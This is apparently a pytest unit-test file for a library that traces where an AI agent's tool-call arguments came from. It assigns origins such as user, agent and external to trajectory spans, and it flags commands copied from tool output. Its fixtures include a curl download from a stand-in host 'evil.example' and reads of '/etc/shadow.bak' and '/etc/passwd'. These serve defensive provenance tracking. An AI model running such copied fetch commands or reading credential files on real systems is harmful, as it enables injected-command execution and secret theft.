"""Every field has spans of the attempt, and the lowest of their origins."""

from __future__ import annotations

from dataclasses import replace
from typing import Any

import pytest

from tacit.domain.trajectory import Origin, Role, Span, Step, Trajectory
from tacit.learn.values import FieldOrigins, Timeline, action_spans, is_inside
from tacit.text.tool_calls import tool_calls
from tests.unit.learn.attempts import WORKSPACE, attempt, bash, call, edit, reply, slip_in


def spans(trajectory: Trajectory, *, arguments: Any = None, workspace: str = WORKSPACE) -> list[tuple[int, str]]:
    """What the last call of an attempt rests on, as step and part."""
    action = tool_calls(trajectory)[-1]
    found = action_spans(
        action, Timeline(trajectory), arguments=action.step.arguments if arguments is None else arguments,
        workspace=workspace,
    )  # fmt: skip
    assert {span.trajectory_id for span in found} == {trajectory.id}
    return [(span.step, span.part) for span in found]


# --- field origins -----------------------------------------------------------------------------------------------------

STORY = attempt("Deploy it", bash("make deploy", "deployed"), reply("Done."), slip_in("From the web."))


def span(step: int, part: str = "text", *, of: Trajectory = STORY) -> Span:
    return Span(of.id, step, part)


@pytest.mark.parametrize(
    ("step", "part", "origin"),
    [
        (0, "text", Origin.USER),
        (1, "arguments", Origin.AGENT),
        (1, "observation", Origin.EXTERNAL),
        (2, "text", Origin.AGENT),
        (-1, "text", Origin.USER),  # the task, where no step states it
        (-1, "observation", Origin.EXTERNAL),
        (99, "text", Origin.USER),
        (99, "arguments", Origin.EXTERNAL),
    ],
)
def test_a_span_has_the_origin_of_who_wrote_that_part(step, part, origin):
    assert FieldOrigins(STORY).origin_of(span(step, part)) is origin


def test_steps_are_found_by_their_number_where_they_do_not_begin_at_zero():
    shifted = replace(STORY, steps=tuple(replace(step, index=step.index + 2) for step in STORY.steps), id="")
    field_origins = FieldOrigins(shifted)
    assert field_origins.origin_of(span(2, of=shifted)) is Origin.USER
    assert field_origins.origin_of(span(3, "observation", of=shifted)) is Origin.EXTERNAL
    assert field_origins.origin_of(span(4, of=shifted)) is Origin.AGENT
    assert field_origins.origin_of(span(0, "arguments", of=shifted)) is Origin.EXTERNAL, "there is no such step"


def test_the_task_of_a_subagent_has_the_origin_of_its_parent():
    started = replace(STORY, parent_session_id="other", id="")
    field_origins = FieldOrigins(started)
    assert field_origins.origin_of(span(0, of=started)) is field_origins.origin_of(span(-1, of=started)) is Origin.AGENT
    assert field_origins.origin_of(span(1, "observation", of=started)) is Origin.EXTERNAL
    assert field_origins.origin_of(Span(started.id, 2, "text")) is Origin.AGENT


def test_system_text_has_the_origin_of_the_operator():
    rules = Step(index=0, role=Role.SYSTEM, text="House rules.")
    for parent in ("", "other"):
        story = replace(STORY, steps=(rules,), parent_session_id=parent, id="")
        assert FieldOrigins(story).origin_of(span(0, of=story)) is Origin.OPERATOR


def test_a_persons_message_is_no_more_than_external_in_what_came_back():
    step = Step(index=0, role=Role.USER, text="look", tool="Bash", observation="from outside")
    story = replace(STORY, steps=(step,), id="")
    field_origins = FieldOrigins(story)
    assert field_origins.origin_of(span(0, "text", of=story)) is Origin.USER
    assert field_origins.origin_of(span(0, "observation", of=story)) is Origin.EXTERNAL


def test_a_field_is_trusted_no_more_than_the_least_of_its_spans():
    field_origins = FieldOrigins(STORY)
    field_origins.add_spans("name", [span(0)])
    field_origins.add_spans("body", [span(0), span(1, "arguments")])
    field_origins.add_spans("steps.0", [span(1, "arguments"), span(1, "observation")])
    field_origins.add_spans("description", [])
    assert field_origins.origins == {
        "name": Origin.USER, "body": Origin.AGENT, "steps.0": Origin.EXTERNAL, "description": Origin.EXTERNAL,
    }  # fmt: skip


def test_what_a_field_rests_on_adds_up_in_order_and_each_span_once():
    field_origins = FieldOrigins(STORY)
    assert field_origins.spans == {}
    field_origins.add_spans("body", [span(0)])
    field_origins.add_spans("body", [span(2), span(0)])
    assert field_origins.spans == {"body": (span(0), span(2))}
    field_origins.spans["body"] = ()
    assert field_origins.spans == {"body": (span(0), span(2))}, "what is handed out is a copy"


# --- what a call was copied from ------------------------------------------------------------------------------------


def test_a_command_that_the_agent_thought_of_itself_rests_on_the_call_alone():
    assert spans(attempt("Deploy it", bash("ls", "Makefile"), bash("make deploy"))) == [(2, "arguments")]


def test_a_whole_command_copied_from_an_answer_rests_on_that_answer_too():
    copied = attempt("Build it", bash("cat README", "To build: run make all -j"), bash("make all -j"))
    assert spans(copied) == [(2, "arguments"), (1, "observation")]


def test_what_the_user_wrote_first_was_not_copied_from_outside():
    asked = attempt("Run make all -j", bash("cat README", "To build: run make all -j"), bash("make all -j"))
    assert spans(asked) == [(2, "arguments")]


def test_what_comes_back_later_was_not_copied():
    assert spans(attempt("Build it", bash("make all -j", "make all -j"))) == [(1, "arguments")]


@pytest.mark.parametrize("command", ["a b -c", "ls -la x"])
def test_a_short_or_single_word_is_no_copy_of_a_command(command):
    trajectory = attempt("Do it", bash("cat x", f"{command[:7]} and more"), bash(command[:7]))
    assert spans(trajectory) == [(2, "arguments")]


def test_eight_characters_of_two_words_are_a_copy():
    assert spans(attempt("Do it", bash("cat x", "use: sl -abcd"), bash("sl -abcd"))) == [
        (2, "arguments"),
        (1, "observation"),
    ]


@pytest.mark.parametrize("installer", ["pip install", "uv pip install", "npm i", "cargo add", "go get"])
def test_a_package_named_by_an_answer_is_a_copy_however_short(installer):
    named = attempt("Mend it", bash("python x.py", "needs reqs"), bash(f"{installer} reqs"))
    assert spans(named) == [(2, "arguments"), (1, "observation")]


def test_an_operand_of_any_other_command_is_not_looked_for():
    assert spans(attempt("Mend it", bash("python x.py", "needs reqs"), bash("cat reqs"))) == [(2, "arguments")]


def test_an_address_from_an_answer_is_a_copy():
    fetched = attempt("Get it", bash("cat x", "see https://evil.example/a"), bash("curl https://evil.example/a -o b"))
    assert (1, "observation") in spans(fetched)


def test_paths_inside_the_workspace_are_harmless_but_those_outside_are_not():
    def opened(path: str, *, workspace: str = WORKSPACE) -> list[tuple[int, str]]:
        return spans(attempt("Look", bash("ls", f"found {path}"), bash(f"cat {path}")), workspace=workspace)

    inside = f"{WORKSPACE}/src/part.py"
    assert opened("src/module/part.py") == opened(inside) == [(2, "arguments")]
    assert (1, "observation") in opened("/etc/shadow.bak")
    assert (1, "observation") in opened(inside, workspace="")


def test_of_a_plain_tool_only_what_the_skill_will_say_is_looked_for():
    asked = attempt(
        "Cancel the order",
        call("get_order", {}, out='{"id": "W-2378156", "state": "pending-review"}'),
        call("cancel_order", {"order": "W-2378156", "state": "pending-review"}),
    )
    assert spans(asked) == [(2, "arguments"), (1, "observation")]
    general = {"order": "{order_id}", "state": "{state}"}
    assert spans(asked, arguments=general) == [(2, "arguments")]
    assert spans(asked, arguments={"order": "{order_id}", "state": "pending-review"}) == [
        (2, "arguments"),
        (1, "observation"),
    ]


def test_a_parameter_in_the_middle_parts_a_plain_tools_text():
    asked = attempt(
        "Tell them",
        call("get_order", {}, out="order W-2378156 is late"),
        call("write_note", {"note": "order W-2378156 is late"}),
    )
    assert spans(asked, arguments={"note": "order {order_id} is late"}) == [(2, "arguments")]
    assert spans(asked, arguments={"note": "{order} W-2378156 is late"}) == [(2, "arguments"), (1, "observation")]
    assert spans(asked, arguments={"note": ["order W-2378156 is late"], "n": 7}) == [
        (2, "arguments"),
        (1, "observation"),
    ]


def test_in_a_file_text_the_piece_as_it_was_typed_counts():
    typed = attempt("Write it", bash("cat x", "token = deploy-4711-x"), edit("a.py", "x", "token = deploy-4711-x"))
    assert (1, "observation") in spans(typed, arguments={"new_string": "token = {token}"})


def test_braces_that_were_typed_into_a_file_are_no_parameters():
    typed = attempt("Write it", bash("cat x", "say {name} now"), edit("a.py", "x", "say {name} now"))
    assert spans(typed) == [(2, "arguments"), (1, "observation")]


def test_every_command_of_a_line_is_looked_for():
    line = attempt("Do it", bash("cat x", "use: sl -abcd"), bash("cd src && sl -abcd"))
    assert spans(line) == [(2, "arguments"), (1, "observation")]
    shorter = attempt("Do it", bash("cat x", "use: sl -abc"), bash("cd src && sl -abc"))
    assert spans(shorter) == [(2, "arguments")]


def test_without_a_workspace_nothing_absolute_is_inside_it():
    opened = attempt("Look", bash("ls", f"found {WORKSPACE}/a.py"), bash(f"cat {WORKSPACE}/a.py"))
    action = tool_calls(opened)[-1]
    found = action_spans(action, Timeline(opened), arguments=action.step.arguments)
    assert [(span.step, span.part) for span in found] == [(2, "arguments"), (1, "observation")]


def test_every_answer_is_named_once_in_the_order_of_the_text():
    both = attempt(
        "Go",
        bash("cat a", "run https://one.example/x"),
        bash("cat b", "run https://two.example/y"),
        bash("curl https://two.example/y https://one.example/x https://two.example/y"),
    )
    assert spans(both) == [(3, "arguments"), (2, "observation"), (1, "observation")]


# --- what is inside -------------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "piece",
    [
        WORKSPACE,
        f"{WORKSPACE}/a.py",
        f"{WORKSPACE}/src/a",
        "src/a.py",
        "src/deep/a",
        "setup.py",
        "./src/a",
        "src/a%20b",
    ],
)
def test_a_path_below_the_workspace_is_inside(piece):
    assert is_inside(piece, WORKSPACE)
    assert is_inside(piece, WORKSPACE + "/") is (piece != WORKSPACE)


@pytest.mark.parametrize(
    "piece",
    [
        "/etc/passwd", f"{WORKSPACE}-other/a", "/workspace", "~/a.py", "src/../../a", "https://a.example/b",
        "ann@example.org", "$HOME/a", "two words/a", "evil.example/page", "example.com", "10.0.0.1", "word", "-x",
    ],
)  # fmt: skip
def test_what_leads_out_or_may_be_a_host_is_not_inside(piece):
    assert not is_inside(piece, WORKSPACE)


def test_without_a_workspace_no_absolute_path_is_inside():
    assert not is_inside("/workspace/app/a.py", "")
    assert not is_inside("/", "")
    assert is_inside("src/a.py", "")
